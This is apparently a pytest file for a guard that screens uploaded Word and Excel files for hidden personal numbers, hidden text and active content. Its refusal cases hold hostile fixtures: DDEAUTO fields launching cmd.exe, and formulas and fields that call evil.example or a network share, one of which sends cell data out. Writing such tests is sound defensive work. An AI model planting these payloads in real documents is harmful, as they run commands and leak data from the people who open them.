"""All that a docx or xlsx says is read, wherever it says it; what it would do by itself is refused."""
# ruff: noqa: E501 - one row of a table a line

import pytest

from scripts.guard.documents import cleaned_document, document_links, document_texts
from scripts.guard.files import Unfit
from scripts.guard.text import findings
from scripts.guard.watch import Kind, Watch
from tests import office_files as make
from tests.office_files import BOOK, SHEET, STYLES, sheet
from tests.test_guard_pictures import jpg

NUMBER = "13900219000"
SPLIT = "<w:r><w:t>139002</w:t></w:r>{}<w:r><w:t>19000</w:t></w:r>"
VML = "urn:schemas-microsoft-com:vml"
SAID: dict[str, tuple[bytes, str]] = {
    "docx: label of a list": (
        make.docx(
            parts={"word/numbering.xml": f'<w:numbering xmlns:w="{make.W}"><w:lvlText w:val="{NUMBER} %1"/></w:numbering>'}
        ),
        "docx",
    ),
    "docx: signs of a font": (
        make.docx("<w:p><w:r>" + "".join(f'<w:sym w:font="Arial" w:char="00{ord(c):x}"/>' for c in NUMBER) + "</w:r></w:p>"),
        "docx",
    ),
    "docx: signs of Symbol": (
        make.docx("<w:p><w:r><w:t>" + "".join(chr(0xF000 + ord(c)) for c in NUMBER) + "</w:t></w:r></w:p>"),
        "docx",
    ),
    "docx: circled signs of Wingdings": (
        make.docx("<w:p><w:r>" + "".join(f'<w:sym w:char="F{0x80 + int(c):03X}"/>' for c in NUMBER) + "</w:r></w:p>"),
        "docx",
    ),
    "docx: list to choose from": (
        make.docx(f'<w:sdt><w:sdtPr><w:dropDownList><w:listItem w:displayText="x {NUMBER}"/></w:dropDownList></w:sdtPr></w:sdt>'),
        "docx",
    ),
    "docx: name of a control": (make.docx(f'<w:sdt><w:sdtPr><w:alias w:val="{NUMBER}"/></w:sdtPr></w:sdt>'), "docx"),
    "docx: help of a field": (
        make.docx(f'<w:p><w:r><w:fldChar><w:ffData><w:helpText w:val="{NUMBER}"/></w:ffData></w:fldChar></w:r></w:p>'),
        "docx",
    ),
    "docx: bookmark": (make.docx(f'<w:p><w:bookmarkStart w:id="1" w:name="x_{NUMBER}"/></w:p>'), "docx"),
    "docx: WordArt": (make.docx(f'<w:p><v:textpath xmlns:v="{VML}" string="{NUMBER}"/></w:p>'), "docx"),
    "docx: parted by a field": (
        make.docx(f'<w:p>{SPLIT.format("<w:r><w:instrText> PAGE </w:instrText></w:r>")}</w:p>'), "docx"
    ),
    "docx: parted by a reading aid": (
        make.docx(f'<w:p>{SPLIT.format("<w:ruby><w:rt><w:r><w:t>a1</w:t></w:r></w:rt></w:ruby>")}</w:p>'), "docx"
    ),
    "docx: parted by the place of a drawing": (
        make.docx(f'<w:p>{SPLIT.format("<w:drawing><x>12345</x></w:drawing>")}</w:p>'), "docx"
    ),
    "docx: in a text box": (
        make.docx(f"<w:p><w:r><w:txbxContent><w:p><w:r><w:t>{NUMBER}</w:t></w:r></w:p></w:txbxContent></w:r></w:p>"),
        "docx",
    ),
    "docx: name of a picture": (make.docx(parts={f"word/media/{NUMBER}.jpg": jpg()}), "docx"),
    "docx: kind of a part": (
        make.edited(make.docx(), "[Content_Types].xml", b"image/jpeg", f"image/{NUMBER}".encode()), "docx"
    ),
    "xlsx: name of a sheet": (make.xlsx(lambda book: setattr(book.active, "title", f"x{NUMBER}")), "xlsx"),
    "xlsx: hint beside a cell": (
        sheet(f'<dataValidations><dataValidation promptTitle="x" prompt="{NUMBER}" sqref="A1"/></dataValidations>'), "xlsx"
    ),
    "xlsx: format of a number": (
        sheet(f'<numFmts><numFmt numFmtId="200" formatCode="&quot;{NUMBER}&quot;"/></numFmts>', STYLES, 'main">'), "xlsx"
    ),
    "xlsx: shown link": (sheet(f'<hyperlinks><hyperlink ref="A1" display="{NUMBER}"/></hyperlinks>'), "xlsx"),
    "xlsx: name of a range": (
        sheet(f'<definedNames><definedName name="x_{NUMBER}">Sheet!A1</definedName></definedNames>', BOOK, "</sheets>"), "xlsx"
    ),
    "xlsx: scenario": (sheet(f'<scenarios><scenario name="x" comment="{NUMBER}"/></scenarios>'), "xlsx"),
    "xlsx: mailbox in a hint": (sheet('<dataValidation prompt="a.b@example.com"/>'), "xlsx"),
    "xlsx: parted by phonetics": (
        sheet("<is><r><t>139</t></r><rPh><t>a1</t></rPh><r><t>00219000</t></r></is>", old="<sheetData>"), "xlsx"
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", SAID)
def test_whatever_a_file_says_anywhere_is_read(name: str) -> None:
    """A mobile or mailbox in a label, a hint, a name or a sign, or with something between, is found."""
    data, ending = SAID[name]
    clean = cleaned_document(data, ending)
    kinds = {each.kind for _, text in document_texts(clean, ending) for each in findings(text, Watch())}
    assert kinds & {Kind.MOBILE, Kind.EMAIL}


ORDINARY = """<w:p w:rsidR="00A12345" xmlns:w14="w14" w14:paraId="13900219" xmlns:wp="wp">\
<w:pPr><w:rPr><w:rFonts w:eastAsia="宋体"/><w:color w:val="139002"/></w:rPr></w:pPr>\
<w:bookmarkStart w:id="0" w:name="_Toc139002190"/><wp:extent cx="5274310" cy="13900219"/>\
<w:panose1 w:val="02010600030101010101"/><x uri="{28A0092B-C50C-407E-A947-70E740481C1C}"/>\
<w:r><w:rPr><w:webHidden/></w:rPr><w:sym w:font="Wingdings" w:char="F0A8"/></w:r></w:p>"""


def test_what_programs_number_things_with_is_no_finding() -> None:
    """Sizes, keys, colours and bookmarks of an ordinary file are no person's number."""
    clean = cleaned_document(make.docx(ORDINARY), "docx")
    assert [each for _, text in document_texts(clean, "docx") for each in findings(text, Watch())] == []


def styles(*each: str) -> bytes:
    """Return a docx of these styles, with a text in the style called a."""
    body = '<w:p><w:r><w:rPr><w:rStyle w:val="a"/></w:rPr><w:t>x</w:t></w:r></w:p>'
    return make.docx(body, {"word/styles.xml": f'<w:styles xmlns:w="{make.W}">{"".join(each)}</w:styles>'})


_FIELD = (
    '<w:fldChar w:fldCharType="begin"/><w:instrText>{}</w:instrText>'
    '<w:fldChar w:fldCharType="separate"/><w:t>x</w:t><w:fldChar w:fldCharType="end"/>'
)


def _field(*pieces: str) -> bytes:
    return make.docx(f"<w:p><w:r>{_FIELD.format('</w:instrText><w:instrText>'.join(pieces))}</w:r></w:p>")


def _vml(element: str) -> bytes:
    return make.docx(f'<w:p><w:r><v:{element} xmlns:v="{VML}"/></w:r></w:p>')


HIDE = "<w:rPr><w:vanish/></w:rPr>"
REFUSED: dict[str, tuple[bytes, str, str]] = {
    "hiding style below another": (
        styles(f'<w:style w:styleId="h">{HIDE}</w:style>', '<w:style w:styleId="a"><w:basedOn w:val="h"/></w:style>'), "docx", "隐藏文字"
    ),
    "all text hidden": (styles(f"<w:docDefaults><w:rPrDefault>{HIDE}</w:rPrDefault></w:docDefaults>"), "docx", "隐藏文字"),
    "hiding style of unnamed text": (styles(f'<w:style w:styleId="h" w:default="1">{HIDE}</w:style>'), "docx", "隐藏文字"),
    "one attribute behind another": (
        make.docx('<w:p><w:r><w:rPr><w:vanish w:val="1" xmlns:y="y" y:val="0"/></w:rPr></w:r></w:p>'), "docx", "重名的属性"
    ),
    "in another encoding": (
        make.docx(parts={"word/footnotes.xml": '<?xml version="1.0" encoding="UTF-16"?><x>1</x>'.encode("utf-16")}), "docx", "打不开"
    ),
    "in another encoding, by its own word": (
        make.docx(parts={"word/footnotes.xml": '<?xml version="1.0" encoding="UTF-7"?><x>1</x>'}), "docx", "打不开"
    ),
    "more text than anybody reads": (make.docx(f"<w:p><w:r><w:t>{' ' * 20_000_000}</w:t></w:r></w:p>"), "docx", "太大"),
    "more paragraphs than anybody reads": (make.docx("<w:p/>" * 300_000), "docx", "太多"),
    "all rows hidden": (make.edited(make.xlsx(), SHEET, b"<sheetFormatPr ", b'<sheetFormatPr zeroHeight="1" '), "xlsx", "隐藏的行或列"),
    "all rows flat": (
        make.edited(make.xlsx(), SHEET, b'defaultRowHeight="15"', b'defaultRowHeight="0"'), "xlsx", "隐藏的行或列"
    ),
    "picture fetched by a field": (_field("", ' INCLUDEPICTURE "http://evil.example/a.png" ', ""), "docx", "域 INCLUDEPICTURE"),
    "command in a field": (_field("", ' DDEAUTO c:\\\\windows\\\\cmd.exe "/k x" ', ""), "docx", "域 DDEAUTO"),
    "command in pieces": (_field(" DDE", "AUTO cmd"), "docx", "域 DDEAUTO"),
    "field within a field": (_field(' HYPERLINK "', "</w:instrText>" + _FIELD.format(" QUOTE x ") + "<w:instrText>", '"'), "docx", "域 QUOTE"),
    "field nobody began": (make.docx("<w:p><w:r><w:instrText>DDEAUTO x</w:instrText></w:r></w:p>"), "docx", "域 DDEAUTO"),
    "simple field": (make.docx('<w:p><w:fldSimple w:instr=" INCLUDETEXT x "/></w:p>'), "docx", "域 INCLUDETEXT"),
    "link to a file": (_field(' HYPERLINK "file:///c:/x.exe" '), "docx", "外部的模板"),
    "picture elsewhere": (_vml('imagedata src="http://evil.example"'), "docx", "外部的模板"),
    "picture on a share": (_vml('imagedata src="\\\\evil\\a"'), "docx", "外部的模板"),
    "shape with a script": (_vml('shape href="javascript:x"'), "docx", "外部的模板"),
    "picture by its link": (_vml('blip r:link="rId1" xmlns:r="r"'), "docx", "外部的模板"),
    **{
        f"formula {each}": (sheet(f'<row r="9"><c r="A9"><f>{each}</f><v>0</v></c></row>', old="<sheetData>"), "xlsx", "公式")
        for each in (
            'IMAGE("http://evil.example/a.png")', 'WEBSERVICE("http://evil.example/?"&amp;A1)', "cmd|'/c calc'!A1",
            'HYPERLINK("http://evil.example/","x")', 'rtd("x","","y")', "_xlfn.WEBSERVICE(A1)", "CALL (A1)",
            "[1]Sheet!A1", "'[1]Sheet'!A1", "'\\\\evil\\[x.xlsx]Sheet'!A1", "EVALUATE(A1)",
        )
    },
    "formula of a name": (sheet("<definedNames><definedName name='x'>CALL(A1)</definedName></definedNames>", BOOK, "</sheets>"), "xlsx", "公式"),
    "formula of a rule": (sheet("<conditionalFormatting><cfRule><formula>WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>"), "xlsx", "公式"),
}  # fmt: skip


ACCEPTED: dict[str, tuple[bytes, str]] = {
    **{
        f"field {each}": (_field(each), "docx")
        for each in (
            " PAGE  \\* MERGEFORMAT ", ' TOC \\o "1-3" \\h \\z \\u ', " PAGEREF _Toc139002190 \\h ", ' HYPERLINK \\l "_Toc1" ',
            ' HYPERLINK "https://www.gov.cn/" ', " FORMTEXT ", ' DATE \\@ "yyyy" ', " =SUM(ABOVE) ", "",
        )
    },
    **{
        f"formula {each}": (sheet(f'<row r="9"><c r="A9"><f>{each}</f><v>0</v></c></row>', old="<sheetData>"), "xlsx")
        for each in ("SUM(A1:A3)", 'IF(A1&gt;0,"是(a|b)","否")', "'甲 乙'!A1*2", "Table1[[#This Row],[名额]]+1", "ROUND((A1+A2)/2,1)")
    },
}  # fmt: skip


@pytest.mark.parametrize("name", ACCEPTED)
def test_ordinary_fields_and_formulas_pass(name: str) -> None:
    """Page numbers, tables of contents, forms, sums and links to the web are published."""
    assert cleaned_document(*ACCEPTED[name])


LINKING: dict[str, tuple[bytes, str]] = {
    "docx": (make.docx(links=make.link(2, "hyperlink", "https://www.gov.cn/", "External")), "docx"),
    "docx, by a field": (_field(' HYPERLINK "https://www.gov.cn/" '), "docx"),
    "docx, by a bare field": (_field(" hyperlink https://www.gov.cn/ "), "docx"),
    "pdf": (make.pdf(make.linked), "pdf"),
}


@pytest.mark.parametrize("name", LINKING)
def test_every_address_of_a_document_is_told(name: str) -> None:
    """Whoever holds them against the listed web sites sees each link, however it is written."""
    data, ending = LINKING[name]
    assert [address for _, address in document_links(cleaned_document(data, ending), ending)] == [
        "https://www.gov.cn/"
    ]


@pytest.mark.parametrize("name", REFUSED)
def test_what_hides_or_calls_out_is_refused_with_a_remedy(name: str) -> None:
    """Each refusal is a Chinese sentence that says what to do in Word, Excel or WPS."""
    data, ending, said = REFUSED[name]
    with pytest.raises(Unfit) as refused:
        cleaned_document(data, ending)
    assert said in str(refused.value)
    assert all("应" in reason or "请" in reason for reason in refused.value.reasons)


def test_a_hiding_style_that_nobody_uses_is_no_fault() -> None:
    """Word brings styles that hide; only where a text stands in one is it refused."""
    cleaned_document(styles(f'<w:style w:styleId="h">{HIDE}</w:style>'), "docx")
